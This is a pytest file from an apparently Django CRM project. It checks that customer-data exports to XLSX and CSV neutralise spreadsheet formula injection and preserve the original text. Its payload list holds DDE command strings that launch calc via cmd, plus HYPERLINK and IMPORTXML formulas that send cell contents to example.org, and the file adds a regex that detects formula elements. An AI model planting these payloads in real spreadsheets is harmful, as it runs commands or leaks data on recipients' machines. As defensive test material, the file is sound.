"""No text becomes a formula, in any file, and every one comes back as it went out (trust F-74)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable

import openpyxl
import pytest

from guanxi.base.records.cells import harmless, is_active, plain_again, writable
from guanxi.core.customers.models import Customer

from .conftest import Exported, content, csv_rows, values

pytestmark = pytest.mark.req("DAT-02")
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "﹢", "﹣", "﹦", "﹫", "⁼", "₌")
BEFORE = ("", " ", "  ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u202e", "\u2003", "\x0b")
ORDERS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"点我")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}\n=1+1",
    "善良\n=1+1",
    "善良,=1+1",
    "善良;=1+1",
    "善良\t=1+1",
    '善良"=1+1',
    "'=1+1",
    "''=1+1",
    "'善良",
    '"=1+1"',
    "%0A=1+1",
    "http://example.org",
    "mailto:a@example.org",
    "_x0041_",
    "[Red]0",
    "1E+10",
    "0012",
    "110101195003021234",
    "TRUE",
    "2026-11-16",
    "#REF!",
    "!A1",
    "‘=1+1",
)
PAYLOADS = (*ORDERS, *(f"{before}{sign}1+1" for before in BEFORE for sign in SIGNS))


def test_there_are_many_payloads() -> None:
    assert len(PAYLOADS) >= 200


@pytest.mark.parametrize("cell", PAYLOADS)
def test_what_is_made_harmless_comes_back_as_it_was(cell: str) -> None:
    assert not is_active(harmless(cell))
    assert plain_again(harmless(cell)) == cell


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", BEFORE)
def test_a_sign_behind_what_is_not_seen_is_active(before: str, sign: str) -> None:
    assert is_active(f"{before}{sign}1+1")


@pytest.mark.parametrize("cell", ["崔强", "", "3-4", "a=b", "解放路1号", "(028)8888", "“=”", "—", "…", "《=》"])
def test_plain_texts_stay_as_they_are(cell: str) -> None:
    assert harmless(cell) == cell
    assert plain_again(cell) == cell


@pytest.fixture
def poisoned(customer_of: Callable[..., Customer]) -> list[str]:
    """Customers whose texts are payloads, in two columns; stored without what forms never let in."""
    ids = [customer_of("rep", name="崔强").pk for _payload in PAYLOADS]
    for pk, payload in zip(ids, PAYLOADS, strict=True):
        Customer.objects.filter(id=pk).update(need=payload, route=payload[:60])
    return list(PAYLOADS)


@pytest.mark.django_db
def test_no_cell_of_a_workbook_is_active(exported: Exported, poisoned: list[str]) -> None:
    run = exported("manager", cols="name,need,route", sort="new")
    with zipfile.ZipFile(io.BytesIO(content(run))) as archive:
        xml = "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/"))
    assert not re.search(r"<f[ >]|<hyperlink|<ddeLink|externalLink", xml)
    assert set(re.findall(r"<c [^>]*?t=\"(\w+)\"", xml)) == {"inlineStr"}
    book = openpyxl.load_workbook(io.BytesIO(content(run)))
    assert {cell.data_type for row in book.worksheets[0].iter_rows() for cell in row} <= {"s", "inlineStr"}
    assert sorted(row[1] for row in values(run)[1:]) == sorted(map(writable, poisoned))


@pytest.mark.django_db
@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
def test_no_cell_of_a_csv_file_for_people_is_active(exported: Exported, poisoned: list[str], encoding: str) -> None:
    rows = csv_rows(exported("manager", format="csv", encoding=encoding, cols="name,need,route"))[1:]
    assert [cell for row in rows for cell in row if is_active(cell)] == []
    assert sorted(plain_again(row[1]) for row in rows) == sorted(map(writable, poisoned))


@pytest.mark.django_db
def test_a_csv_file_for_machines_holds_them_as_they_are(exported: Exported, poisoned: list[str]) -> None:
    text = content(exported("gm", format="csv", audience="machines", cols="name,need")).decode()
    assert all(line.startswith('"') for line in text.split("\r\n")[:1])
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert sorted(row[1] for row in rows) == sorted(map(writable, poisoned))


@pytest.mark.django_db
def test_control_characters_do_not_break_a_workbook(exported: Exported, customer_of: Callable[..., Customer]) -> None:
    customer_of("rep", name="崔强")
    Customer.objects.update(need="a\x01b\x08\x1fc\ufffe\uffffd_x0001_")
    assert values(exported("manager", cols="name,need"))[1][1] == "abcd_x0001_"
